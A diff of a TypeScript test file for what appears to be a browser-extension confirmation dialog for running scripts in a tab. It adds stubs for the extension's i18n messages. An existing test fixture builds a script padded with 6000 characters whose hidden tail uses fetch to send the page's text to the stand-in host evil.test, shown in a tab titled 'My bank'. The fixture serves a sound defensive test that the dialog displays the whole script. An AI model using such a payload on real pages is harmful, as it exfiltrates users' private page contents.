@@ -25,6 +25,16 @@ const mount = async (request: ConfirmationRequested, onDecide?: AmConfirmation["
 }
 
 describe("am-confirmation", () => {
+  // Test pages have no extension i18n: a stand-in shows each message's key and its substitutions.
+  const w = globalThis as unknown as { chrome?: { i18n?: unknown } }
+  const saved = w.chrome
+  before(() => {
+    w.chrome = { ...saved, i18n: { getMessage: (key: string, subs: string[] = []) => `${key}(${subs.join("|")})` } }
+  })
+  after(() => {
+    w.chrome = saved
+  })
+
   it("shows the whole script, however long, and the tab by title and site; no button is highlighted", async () => {
     const code = "const a = 1\n" + "x".repeat(6000) + "\n/* the tail */ fetch('https://evil.test/?d=' + document.body.innerText)"
     const root = await mount({ ...base, reason: "destructive", code, tab: { id: 7, title: "My bank", url: "https://bank.test/acct" } })
